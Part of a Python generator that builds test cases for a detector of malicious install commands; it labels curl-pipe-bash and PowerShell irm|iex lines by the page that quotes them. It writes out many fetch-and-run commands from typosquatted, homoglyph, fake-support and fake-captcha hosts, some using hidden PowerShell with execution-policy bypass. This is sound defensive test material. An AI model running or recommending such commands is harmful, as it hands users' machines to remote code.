            f"curl -fsSL https://{name}-cli.s3.us-west-2.amazonaws.com/install.sh | bash",
            f"https://docs.{domain}/cli/",
        )
        # self-hosted forges, nested groups, a wiki
        add(
            f"curl -fsSL https://gitlab.{domain}/{name}/{name}/-/raw/main/install.sh | bash",
            f"https://gitlab.{domain}/{name}/{name}",
        )
        add(
            f"curl -sSL https://gitlab.com/{co}-group/tools/{name}/-/raw/main/install.sh | bash",
            f"https://gitlab.com/{co}-group/tools/{name}",
        )
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{co}/{name}/main/install.sh | bash",
            f"https://github.com/{co}/{name}/wiki/Installation",
        )
        # stores and registries
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{co}/{name}/main/install.sh | bash",
            f"https://snapcraft.io/{name}",
        )
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{co}/{name}/main/install.sh | bash",
            f"https://flathub.org/apps/io.github.{co}.{name}",
        )
    return out


def lures() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(
        text: str, source: str, target: str = "terminal", expect: str = "flagged",
        platform: str = "linux",
    ) -> None:  # fmt: skip
        nonlocal n
        n += 1
        out.append(case(f"b5-lure-{n:03d}", text, expect, LURE, platform, source, target))

    for i, (name, domain) in enumerate(PROJECTS):
        page = OWN_PAGES[i % len(OWN_PAGES)].format(d=domain)
        label, _, suffix = domain.partition(".")
        # a typosquat of the project's domain, and its name joined with a lure's word
        typo = label[0] + label[2] + label[1] + label[3:]
        add(f"curl -fsSL https://{typo}.{suffix}/install.sh | sudo bash", page)
        add(f"curl -fsSL https://{label}-verify.test/install.sh | bash", page)
        # the project's name inside someone else's domain
        add(f"curl -fsSL https://{domain}.cdn-edge.test/install.sh | bash", page)
        add(f"curl -fsSL https://get-{label}.test/install.sh | bash", page)
        # an account spelling the name with the trouble or help lure pages offer
        for word in ("support", "security", "update"):
            add(
                f"curl -fsSL https://raw.githubusercontent.com/{name}-{word}/installer/main/"
                f"install.sh | bash",
                page,
            )
        # a stranger's account and repository, an unrelated host, a bucket named for someone else
        add(
            "curl -fsSL https://raw.githubusercontent.com/devtools-hub/setup/main/install.sh | "
            "bash",
            page,
        )
        add(f"irm https://cdn.stranger-host.test/tools/setup-{i}.ps1 | iex", page,
            platform="windows")  # fmt: skip
        add(f"curl -fsSL https://stranger-{name}.s3.amazonaws.com/install.sh | bash", page)
        # a site that is no software project's, and an account named after it with an
        # organisation's word (a compromised shop or blog)
        shop = ("bakehouse", "florist", "joinery", "tearoom", "bistro", "atelier")[i % 6]
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{shop}{i}-plugins/installer/main/"
            f"install.sh | bash",
            f"https://www.{shop}{i}.example/about-us/our-story",
        )
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{shop}{i}-community/{shop}{i}-theme/"
            f"main/install.sh | bash",
            f"https://{shop}{i}.example/menu/seasonal-specials",
        )
        # the real project's installer with a lure trait, or in the Run box
        add(
            f'powershell -w hidden -ep bypass -c "irm https://{domain}/install.ps1 | iex"',
            "https://recaptcha-verify-human.test/check",
            "run_dialog",
            "malicious",
            "windows",
        )
        add(
            f"curl -fsSL https://raw.githubusercontent.com/{name}-plugins/installer/main/"
            f"install.sh | bash",
            "https://cloudflare-turnstile-check.test/verify",
            "terminal",
            "malicious",
        )
    # tenant hosts and buckets: named after someone else, from a page on a tenant host, from a
    # page about something else; a forge issue naming a site
    add(
        "curl -fsSL https://helperbot.pages.dev/install.sh | bash",
        "https://docs.quokkadb.io/installation/",
        expect="malicious",
    )
    add(
        "curl -fsSL https://quokkadb.pages.dev/install.sh | bash",
        "https://quokkadb.netlify.app/docs/install",
        expect="malicious",
    )
    add(
        "curl -fsSL https://bakehouse.pages.dev/install.sh | bash",
        "https://bakehouse.example/menu/seasonal-specials",
        expect="malicious",
    )
    add(
        "curl -fsSL https://strangerreleases.blob.core.windows.net/cli/install.sh | bash",
        "https://quokkadb.io/docs/install",
        expect="malicious",
    )
    add(
        "curl -fsSL https://quokkadbfix.blob.core.windows.net/cli/install.sh | bash",
        "https://quokkadb.io/docs/install",
        expect="malicious",
    )
    add(
        "curl -fsSL https://quokkadb.top/install.sh | bash",
        "https://github.com/acmecorp/quokkadb-cli/issues/31",
    )
    # a page that dresses a vendor's name up (run into its suffix, joined with a word) and a
    # script from someone else's account
    add(
        "curl -fsSL https://raw.githubusercontent.com/temporal-cli-tools/cli/main/install.sh | sh",
        "https://temporal-io.test/cli/install",
        expect="malicious",
    )
    add(
        "curl -fsSL https://raw.githubusercontent.com/grafana-agent-dl/agent/main/install.sh | sh",
        "https://grafana-download.test/agent",
        expect="malicious",
    )
    # a vendor's name under another suffix vouches for its own host, but a lure trait or
    # the Run box still wins
    add(
        'powershell -w hidden -ep bypass -c "irm https://ollama.dev/install.ps1 | iex"',
        "https://ollama.dev/download/windows",
        expect="malicious",
        platform="windows",
    )
    add(
        "curl -fsSL https://tailscale.io/install.sh | sh",
        "https://tailscale.io/download",
        "run_dialog",
        "malicious",
        "windows",
    )
    # registry pages quoting a script from another account's repository or another host
    add(
        "curl -fsSL https://raw.githubusercontent.com/helperbot/tools/main/install.sh | bash",
        "https://pypi.org/project/quokkadb/",
    )
    add(
        "curl -fsSL https://quokkadb-install.test/install.sh | bash",
        "https://www.npmjs.com/package/quokkadb",
    )
    add(
        "curl -sSfL https://raw.githubusercontent.com/mallory/ferrule/main/install.sh | sh",
        "https://pkg.go.dev/github.com/ferrule/ferrule",
    )
    # a docs host tenant quoting an unrelated script
    add(
        "curl -fsSL https://raw.githubusercontent.com/helperbot/tools/main/install.sh | bash",
        "https://larkspur.readthedocs.io/en/latest/installation.html",
    )
    # a homoglyph host (Cyrillic 'о' in quokkadb)
    add(
        "curl -fsSL https://get.quоkkadb.io/install.sh | bash",
        "https://docs.quokkadb.io/installation/",
    )
    add(
        "curl -fsSL https://get.xn--qukkadb-4ve.io/install.sh | bash",
        "https://docs.quokkadb.io/installation/",
    )
    # plain HTTP from the project's own domain
    add("curl -fsSL http://get.quokkadb.io/install.sh | sudo bash", "https://quokkadb.io/")
    # an apt key and source from a stranger's host on a project's page
    add(
        "curl -fsSL https://apt.stranger-host.test/gpg.key | sudo gpg --dearmor -o "
        "/etc/apt/keyrings/quokkadb.gpg\necho 'deb [signed-by=/etc/apt/keyrings/quokkadb.gpg] "
        "https://apt.stranger-host.test stable main' | sudo tee /etc/apt/sources.list.d/q.list\n"
        "curl -fsSL https://apt.stranger-host.test/setup.sh | sudo bash",
        "https://docs.quokkadb.io/install/debian",
    )
    # an org-named account from a page that is not the project's own section
    add(
        "curl -fsSL https://raw.githubusercontent.com/quokkadb-plugins/installer/main/install.sh"
        " | sudo bash",
        "https://forum.quokkadb.io/t/install-problem/4411",
    )
    add(
        "curl -fsSL https://raw.githubusercontent.com/quokkadb-plugins/installer/main/install.sh"
        " | sudo bash",
        "https://recipes-daily.example/quokkadb-casserole",
    )
    return out


def build() -> list[Case]:
    return [
        *org_accounts(),
        *companies(),
        *registries(),
        *docs_hosts(),
        *checksums(),
        *package_managers(),
        *powershell(),
        *sudo_bash(),
        *real(),
        *more_shapes(),
        *lures(),
    ]


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
